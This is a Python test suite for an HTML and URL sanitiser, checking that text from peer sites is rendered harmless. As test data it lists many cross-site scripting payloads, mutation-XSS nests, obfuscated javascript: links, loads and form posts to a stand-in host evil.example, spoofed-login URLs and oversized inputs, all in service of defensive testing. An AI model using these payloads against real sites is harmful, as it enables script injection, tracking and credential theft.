"""What others wrote is safe to show: attacks 28 to 32, and the properties behind them."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from network.lib import sanitise
from network.lib.sanitise import (
    CUT,
    LONGEST,
    plain_text,
    sanitise_html,
    strip_control,
    trusted,
    web_url,
)

HERE = "https://paris.example/fr/etudes-de-cas/paris/budget"


def words(text: str) -> frozenset[str]:
    return frozenset(text.split())


TAGS = words("""
    a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em
    figcaption figure h2 h3 h4 h5 h6 hr i ins kbd li mark ol p pre q rp rt ruby s samp section
    small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr
""")
ATTRIBUTES = words("""
    lang dir href hreflang rel title span value start reversed id colspan rowspan scope datetime
""")


class Reader(HTMLParser):
    """Collects what a browser would build, with a parser that is not the sanitiser's."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment survived")

    handle_decl = handle_pi = unknown_decl = handle_comment


def read(html: str) -> list[tuple[str, dict[str, str]]]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.tags


def assert_harmless(html: str) -> None:
    for tag, attributes in read(html):
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        # A browser ignores controls and spaces at the start of an address.
        address = re.sub(r"[\x00-\x20]", "", attributes.get("href", ""))
        assert urlsplit(address).scheme in ("", "http", "https", "mailto") or re.match(
            r"[^a-zA-Z]|[^:]*[^a-zA-Z0-9+.:-]", address
        ), address
        assert attributes.get("id", "problem") in sanitise.SECTION_IDS


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example/p.gif)'>x</p>",
    "<base href='https://evil.example/'><link rel=stylesheet href=x><meta http-equiv=refresh>",
    "<form action='https://evil.example/'><input name=password><button formaction=x>y</button>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html><html><head><title>x</title></head><body onload=alert(1)>y",
    "<a href='x' autofocus tabindex=1 onfocus=alert(1) class=button style='position:fixed'>y</a>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp></xmp><script>alert(1)</script><plaintext><script>",
    "<details open ontoggle=alert(1)>x</details>",
]


@pytest.mark.parametrize("html", SCRIPTS)
def test_script_in_a_peers_html_never_survives(html: str) -> None:  # attack 28
    safe = sanitise_html(html, HERE)
    assert_harmless(safe)
    assert "alert(1)" not in "".join(str(attributes) for _, attributes in read(safe))


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "&#x6a;avascript:alert(1)",
        "&#0;javascript:alert(1)",
        "\x01javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://paris.example/1",
        "feed:javascript:alert(1)",
        "view-source:https://paris.example/",
    ],
)
def test_an_address_that_is_not_of_the_web_is_no_link(address: str) -> None:  # attack 29
    safe = sanitise_html(f'<p><a href="{address}">x</a></p>', HERE)
    assert_harmless(safe)
    links = [attributes.get("href", "") for tag, attributes in read(safe) if tag == "a"]
    assert all(link == "" or link.startswith("https://paris.example/") for link in links)
    assert "x" in plain_text(safe)


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "//",
        "",
        "mailto:a@b.example",
        "https://",
        "http://[",
        "https://paris.example@evil.example/",
        "java\nscript:alert(1)",
        "http:///x",
        "http://paris.example:99999/",
        "http://paris.example:0/",
        None,
    ],
)
def test_web_url_refuses_what_is_not_an_address_of_a_page(address: str | None) -> None:
    assert web_url(address) is None


def test_web_url_gives_clean_absolute_addresses() -> None:
    assert web_url(" https://x.example/a b\n") == "https://x.example/a%20b"
    assert web_url("../y?q=1", "https://x.example/a/b") == "https://x.example/y?q=1"
    assert web_url("javascript:alert(1)", "https://x.example/") is None
    assert web_url("https://x.example/" + "a" * 3000) is None


def test_markup_in_a_text_title_is_words_or_nothing() -> None:  # attack 30
    assert plain_text("Budget <script>alert(1)</script><b onclick=x>participatif</b>") == (
        "Budget participatif"
    )
    assert plain_text("1 &lt; 2 &amp;amp; so on") == "1 < 2 &amp; so on"


def test_plain_text_keeps_blocks_apart_and_words_together() -> None:
    assert plain_text("<h1>A</h1><p>b<b>c</b>\n  d</p><ul><li>e<li>f</ul>g<br>h") == (
        "A\nbc d\ne\nf\ng\nh"
    )


def test_images_become_links_so_that_no_pixel_tracks_a_reader() -> None:  # attack 32
    safe = sanitise_html(
        '<p><img src="https://evil.example/pixel.gif" width=1 height=1>'
        '<img src="/carte.png" alt="Carte des projets" srcset="https://evil.example/x 2x"></p>'
        '<video poster="https://evil.example/p.jpg" src=x></video>'
        '<table background="https://evil.example/b.gif"><tr><td>x</table>',
        HERE,
    )
    assert_harmless(safe)
    assert "evil.example" not in safe
    link = '<a href="https://paris.example/carte.png" rel="noopener nofollow ugc">'
    assert f"{link}Carte des projets</a>" in safe


def test_an_image_inside_a_link_leaves_its_words_in_that_link() -> None:
    safe = sanitise_html(
        '<a href="https://a.example/"><img src="/x.png" alt="Le &lt;plan&gt;"></a>'
    )
    assert safe == '<a href="https://a.example/" rel="noopener nofollow ugc">Le &lt;plan&gt;</a>'
    assert sanitise_html('<p>a<a href="https://a.example/"><img src=x></a>') == "<p>a</p>"


def test_relative_links_lead_to_where_the_text_came_from() -> None:
    safe = sanitise_html("<a href='/fr/'>a</a><a href='?p=2'>b</a><a href='#results'>c</a>", HERE)
    links = [attributes["href"] for tag, attributes in read(safe) if tag == "a"]
    assert links == ["https://paris.example/fr/", HERE + "?p=2", "#results"]
    assert sanitise_html("<a href='/fr/'>a</a>", "javascript:alert(1)//").count("javascript") == 0


def test_code_that_begins_with_empty_lines_stays_code() -> None:
    assert sanitise_html("<pre>" + "\n" * 20 + "<b>a</b>\n  b</pre>") == "<pre><b>a</b>\n  b</pre>"


def test_every_link_says_that_it_is_not_ours() -> None:
    safe = sanitise_html("<a href='https://a.example/' rel=me target=_blank>a</a>")
    assert read(safe) == [("a", {"href": "https://a.example/", "rel": "noopener nofollow ugc"})]


def test_a_page_keeps_one_h1_and_one_of_each_section() -> None:
    html = "<h1>A</h1><section id=problem><h2>B</h2></section><section id=problem>C</section>"
    assert sanitise_html(html + "<section id=menu>D</section><p id=results>E") == (
        '<h2>A</h2><section id="problem"><h2>B</h2></section><section>C</section>'
        "<section>D</section><p>E</p>"
    )


def test_what_belongs_to_an_article_is_kept() -> None:
    html = (
        '<p lang="fr" dir="rtl">a <em>b</em> <abbr title="Organisation">O</abbr></p>\n'
        '<table><caption>c</caption><thead><tr><th scope="col">d</th></tr></thead>'
        '<tbody><tr><td colspan="2">e</td></tr></tbody></table>\n'
        "<figure><blockquote><p>f</p></blockquote><figcaption>g</figcaption></figure>\n"
        '<ol start="3"><li>h</li></ol><pre>i\n  j</pre><time datetime="2014-09">k</time>'
        '<a href="mailto:budget@paris.example" hreflang="fr" rel="noopener nofollow ugc">l</a>'
    )
    assert sanitise_html(html) == html


def test_strange_values_of_kept_attributes_are_dropped() -> None:
    html = '<p lang="x" dir="up"><ol start="-1e9"><li value="9999999999">a</ol>'
    html += '<table><tr><td colspan="100000" rowspan="0">b</table>'
    assert all(attributes == {} for _, attributes in read(sanitise_html(html)))


def test_controls_and_overrides_of_direction_go_and_scripts_stay() -> None:
    assert strip_control("a\x00b\x1b[31m\r\nc\rd\x85\u202egnp.exe\ud800\uffff") == (
        "ab[31m\nc\ndgnp.exe"
    )
    kept = "e\u0301 👩‍💻 \u200fعربي\u200e \u00a0\u202f\t"
    assert strip_control(kept) == kept


@given(st.text(st.characters(codec=None)))
@example("’\u202d\u200d\ufeff\ue000\u0378")
def test_text_is_stripped_the_same_whatever_stands_beside_it(text: str) -> None:
    assert strip_control("\x00" + text) == strip_control(text)
    assert strip_control(f"{text}\t.") == strip_control(text) + "\t."


def test_trusted_leaves_our_own_markup_alone() -> None:
    assert trusted("<mark>x</mark>") == Markup("<mark>x</mark>")


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 20_000 + "words",
        "<ul><li>" * 8_000 + "words",
        "<p " + " ".join(f"a{n}=1" for n in range(30_000)) + ">words",
        "<b></p>" * 12_000 + "words",
    ],
    ids=["nested", "lists", "attributes", "misnested"],
)
def test_absurd_nesting_falls_back_to_the_words(html: str) -> None:  # attacks 17 and 18
    safe = sanitise_html(html)
    assert len(read(safe)) <= 1
    assert plain_text(html) in ("words", "")


def test_a_long_but_sane_text_keeps_its_markup() -> None:
    html = "<p>word <b>bold</b></p>\n" * 2_000
    assert sanitise_html(html) == html


PIECES = st.sampled_from(
    [
        *SCRIPTS,
        *(f"<{tag}>" for tag in [*sorted(TAGS), "h1", "img", "svg", "math", "select"]),
        *(f"</{tag}>" for tag in ("a", "b", "p", "table", "div", "pre", "svg", "section", "i")),
        '<a href="/x">',
        "<a href='#problem' lang=fr>",
        '<img src="/x" alt="y">',
        '<section id="problem">',
        "<pre>\n\n",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "&lt;",
        "&amp",
        '"',
        "'",
        ">",
        "<",
        "\x00",
        "\n",
        "words",
    ]
)
TANGLED = st.lists(PIECES | st.text(max_size=8), max_size=14).map("".join)


@settings(deadline=None)
@given(TANGLED, st.sampled_from([None, HERE]))
@example("<pre>\n\n\n\nx", None)
@example("<table><tr><td><a href=1><table><a href=2>", HERE)
def test_sanitising_is_idempotent_and_its_result_harmless(html: str, base: str | None) -> None:
    safe = sanitise_html(html, base)
    assert_harmless(safe)
    assert sanitise_html(safe, base) == safe
    assert sanitise_html(safe) == safe or base is None


@settings(deadline=None)
@given(TANGLED)
def test_plain_text_of_plain_text_escaped_is_the_same(html: str) -> None:
    text = plain_text(html)
    assert plain_text(str(Markup.escape(text)).replace("\n", "<br>")) == text


@pytest.mark.parametrize(
    "address",
    ["https://bank.example@evil.example/", "https://user:secret@evil.example/", "//u@evil.example/",
     "https:\\\\u@evil.example/", "https://@evil.example/x", "/\\u@evil.example/",
     "https:/u@evil.example/", "https:u@evil.example/", "HTTPS:///u@evil.example/",
     "ht\ntps://u@evil.example/", " \t//u:p@evil.example"],
)  # fmt: skip
def test_a_link_made_to_look_like_another_site_s_is_no_link(address: str) -> None:
    assert "evil" not in sanitise_html(f'<a href="{address}">x</a>', "https://a.example/")


@pytest.mark.parametrize(
    "address",
    ["mailto:mairie@paris.example", "https://social.example/@mairie", "/@mairie", "?a=@b"],
)
def test_an_at_sign_elsewhere_in_an_address_stays(address: str) -> None:
    assert address in sanitise_html(f'<a href="{address}">x</a>', "https://a.example/")


PICTURE = '<p><img alt="" src="data:image/png;base64,' + "iVBORw0KGgo" * 40_000 + '"></p>'
STYLE = "<style>" + ".a > .b { color: #123456 }\n" * 10_000 + "</style>"
DRAWING = "<svg>" + '<path d="M 0 0 L 10 10 Z"/>' * 12_000 + "</svg>"


@pytest.mark.parametrize(
    "bulk",
    [
        PICTURE,
        PICTURE.replace('"', "'"),
        PICTURE.replace("data:image/png;base64,", "data:image/svg+xml;utf8,<svg>"),
        f'<p style="background:url(data:{"x" * 300_000})">au milieu</p>',
        f"<!-- {'x' * 300_000} -->",
        STYLE,
        STYLE.replace("style", "script"),
        DRAWING,
        f"<template>{'<p>x</p>' * 40_000}</template>",
    ],
    ids=lambda bulk: bulk[:30],
)
def test_what_nobody_reads_takes_no_room_from_the_text_around_it(bulk: str) -> None:
    html = sanitise_html(f"<p>Avant la <b>photo</b></p>{bulk}<p>Après &eacute;té</p>")
    assert html.startswith("<p>Avant la <b>photo</b></p>")
    assert html.endswith("<p>Après été</p>")
    assert len(html) < 200
    words = plain_text(f"<p>Avant</p>{bulk}<p>Après</p>").split("\n")
    assert (words[0], words[-1]) == ("Avant", "Après")


@pytest.mark.parametrize(
    "long",
    [
        "<p>Un mot après l’autre.</p>" * 20_000,
        "mot " * 100_000,
        "<a href='/x'>lien</a> " * 15_000,
        "&amp; " * 100_000,
        "<ul>" + "<li>un <b>point</b>" * 12_000,
        "mot" * 100_000,
    ],
)
def test_a_text_that_is_cut_says_so_and_stays_as_it_is(long: str) -> None:
    html = sanitise_html(long, "https://ville.example/")
    assert html.endswith(CUT)
    assert len(html) <= LONGEST
    assert sanitise_html(html) == html


def test_a_text_of_the_full_length_is_not_cut() -> None:
    text = "<p>" + "x" * (LONGEST - 7) + "</p>"
    assert sanitise_html(text) == text


def test_a_text_that_was_left_alone_is_still_another_on_another_page() -> None:
    relative = '<p><a href="/fr/" rel="noopener nofollow ugc">x</a></p>'
    assert sanitise_html(relative) == sanitise_html(relative) == relative
    assert 'href="https://paris.example/fr/"' in sanitise_html(relative, HERE)
    section = '<p><a href="#results" rel="noopener nofollow ugc">x</a></p>'
    for page in (HERE, None, "https://a.example/", HERE):
        assert sanitise_html(section, page) == section


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<H1>a</H1>", "<h2>a</h2>"),
        ("<image src='https://a.example/p.png' alt='a'>", "a</a>"),
        ("<IMG src='https://a.example/p.png' alt='a'>", "a</a>"),
    ],
)
def test_headings_and_images_are_adapted_however_they_are_written(html: str, expected: str) -> None:
    assert sanitise_html(html).endswith(expected)


def test_no_more_is_remembered_of_texts_than_fits(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sanitise, "MOST_LEFT_ALONE", 3)
    monkeypatch.setattr(sanitise, "_left_alone", set())
    for number in range(8):
        assert sanitise_html(f"<p>{number}</p>") == f"<p>{number}</p>"
        assert len(sanitise._left_alone) <= 3


@given(TANGLED, st.sampled_from([None, HERE]))
def test_what_was_asked_before_is_answered_as_for_the_first_time(
    html: str, base: str | None
) -> None:
    sanitise._left_alone.clear()
    once = sanitise_html(html, base)
    again = sanitise_html(once, HERE)
    sanitise._left_alone.clear()
    assert sanitise_html(once, HERE) == again


SIGNS = """
    http https :// : a.example a é . .. / // ? # & = % ~ - _ @ 80 0 99999 \\ [ ] ; + ' (
""".split()
ADDRESSES = st.lists(st.sampled_from([*SIGNS, " ", "\t"]), max_size=12).map("".join)


@given(ADDRESSES | ADDRESSES.map("https://a.example".__add__), st.sampled_from([None, HERE]))
@settings(max_examples=500)
def test_an_ordinary_address_is_what_a_closer_look_would_give(
    address: str, base: str | None
) -> None:
    found = web_url(address, base)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sanitise, "_ORDINARY_URL", re.compile("(?!)"))
        assert web_url(address, base) == found


def test_what_cleaning_made_too_long_is_cut_whoever_asked_before() -> None:
    signs = LONGEST // 4
    assert sanitise_html("&" * signs).endswith(CUT)
    assert sanitise_html("&amp;" * signs).endswith(CUT)
